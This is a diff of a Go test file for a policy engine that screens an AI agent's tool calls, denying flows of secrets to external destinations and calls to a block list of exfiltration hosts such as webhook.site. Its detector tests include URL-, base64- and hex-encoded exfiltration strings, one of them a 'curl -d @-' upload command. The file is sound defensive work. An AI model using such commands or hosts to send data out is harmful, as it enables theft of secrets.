@@ -1,39 +1,66 @@
 package policy
 
 import (
+	"encoding/base64"
+	"encoding/hex"
+	"net/url"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
 )
 
-func TestDecide(t *testing.T) {
-	r := Rules{DefaultAction: Allow, ToolOverrides: map[string]Action{
+var rules = Rules{
+	DefaultAction: Allow,
+	ToolOverrides: map[string]Action{
 		"delete_file":        Deny,
 		"fs/delete_file":     Warn,
 		"WebSearch":          Allow,
 		"everything/get-env": Deny,
-	}}
+	},
+	InternalToExternal:    Ask,
+	SensitiveDataExternal: Deny,
+	AskFallback:           Warn,
+	SuspiciousEndpoints:   []string{"webhook.site", "requestbin.com"},
+}
+
+func TestDecide(t *testing.T) {
 	tests := []struct {
+		name string
 		call Call
 		want Action
 		rule string
 	}{
-		{Call{"fs", "delete_file"}, Warn, "tool_overrides.fs/delete_file"},
-		{Call{"other", "delete_file"}, Deny, "tool_overrides.delete_file"},
-		{Call{"everything", "get-env"}, Deny, "tool_overrides.everything/get-env"},
-		{Call{"everything", "echo"}, Allow, "default_action"},
-		{Call{"", "WebSearch"}, Allow, "tool_overrides.WebSearch"},
+		{"server/tool override beats bare", Call{Server: "fs", Tool: "delete_file"}, Warn, "tool_overrides.fs/delete_file"},
+		{"bare override", Call{Server: "other", Tool: "delete_file"}, Deny, "tool_overrides.delete_file"},
+		{"default", Call{Server: "everything", Tool: "echo"}, Allow, "default_action"},
+		{"endpoint before override", Call{Tool: "WebSearch", Endpoint: "webhook.site"}, Deny, "suspicious_endpoints"},
+		{"override beats flow", Call{Tool: "WebSearch", External: true, FlowType: "internal→external", Sources: []string{"fs"}}, Allow, "tool_overrides.WebSearch"},
+		{"secret out", Call{Server: "slack-notifications", Tool: "post", External: true, Secrets: []string{"aws_secret_key"}, FlowType: "internal→external", Sources: []string{"postgres-db"}}, Deny, "sensitive_data_external"},
+		{"secret stays in", Call{Server: "memory", Tool: "save", External: false, Secrets: []string{"aws_secret_key"}, FlowType: "internal→internal", Sources: []string{"fs"}}, Allow, "default_action"},
+		{"internal out, proxy mode", Call{Server: "slack", Tool: "post", External: true, FlowType: "internal→external", Sources: []string{"github"}}, Warn, "internal_to_external"},
+		{"internal out, hook mode", Call{Server: "slack", Tool: "post", External: true, FlowType: "internal→external", Sources: []string{"github"}, CanAsk: true}, Ask, "internal_to_external"},
+		{"external to external", Call{Server: "slack", Tool: "post", External: true, FlowType: "external→external", Sources: []string{"web"}}, Allow, "default_action"},
 	}
 	for _, tt := range tests {
-		d := r.Decide(tt.call)
-		assert.Equal(t, tt.want, d.Action, "%+v", tt.call)
-		assert.Equal(t, tt.rule, d.Rule, "%+v", tt.call)
-		if d.Action != Allow {
-			assert.Contains(t, d.Reason, tt.call.Tool)
-		}
+		t.Run(tt.name, func(t *testing.T) {
+			d := rules.Decide(tt.call)
+			assert.Equal(t, tt.want, d.Action)
+			assert.Equal(t, tt.rule, d.Rule)
+			if d.Action != Allow {
+				assert.NotEmpty(t, d.Reason)
+			}
+		})
 	}
-	assert.Equal(t, Allow, Rules{}.Decide(Call{"a", "b"}).Action, "zero rules allow")
-	assert.Equal(t, Ask, Rules{DefaultAction: Ask}.Decide(Call{"a", "b"}).Action)
+	assert.Equal(t, Allow, Rules{}.Decide(Call{Server: "a", Tool: "b"}).Action, "zero rules allow")
+	deny := rules
+	deny.AskFallback = Deny
+	assert.Equal(t, Deny, deny.Decide(Call{Server: "slack", External: true, FlowType: "internal→external"}).Action)
+}
+
+func TestSensitiveReason(t *testing.T) {
+	d := rules.Decide(Call{Server: "slack-notifications", Tool: "post", External: true,
+		Secrets: []string{"aws_secret_key"}, FlowType: "internal→external", Sources: []string{"postgres-db"}})
+	assert.Equal(t, "Sensitive data (aws_secret_key) flowing from internal source (postgres-db) to external destination (slack-notifications)", d.Reason)
 }
 
 func TestValid(t *testing.T) {
@@ -42,4 +69,30 @@ func TestValid(t *testing.T) {
 	}
 	assert.False(t, Valid("block"))
 	assert.False(t, Valid(""))
+}
+
+func TestSuspiciousHost(t *testing.T) {
+	hosts := []string{"webhook.site", "requestbin.com", "pipedream.net"}
+	url1 := "https://webhook.site/0e2b-4c1f?d=1"
+	tests := []struct {
+		text string
+		want string
+	}{
+		{`{"url":"` + url1 + `"}`, "webhook.site"},
+		{`send to HTTPS://ABC.Pipedream.NET/x`, "pipedream.net"},
+		{`{"url":"` + url.QueryEscape(url1) + `"}`, "webhook.site"},
+		{`{"u":"https%3A%2F%2Frequestbin.com%2Fr%2F1"}`, "requestbin.com"},
+		{`{"blob":"` + base64.StdEncoding.EncodeToString([]byte(url1)) + `"}`, "webhook.site"},
+		{`{"blob":"` + base64.RawURLEncoding.EncodeToString([]byte("curl -d @- "+url1)) + `"}`, "webhook.site"},
+		{`{"blob":"` + hex.EncodeToString([]byte(url1)) + `"}`, "webhook.site"},
+		{`{"url":"https://notwebhook.site/x"}`, ""},
+		{`{"url":"https://webhook.site.example.org/x"}`, ""},
+		{`{"text":"read the docs about webhooks on our site"}`, ""},
+		{`{"bad":"%zz%"}`, ""},
+		{`{"text":"post it to webhook.site."}`, "webhook.site"},
+	}
+	for _, tt := range tests {
+		assert.Equal(t, tt.want, SuspiciousHost([]byte(tt.text), hosts), tt.text)
+	}
+	assert.Empty(t, SuspiciousHost([]byte("https://webhook.site"), nil))
 }
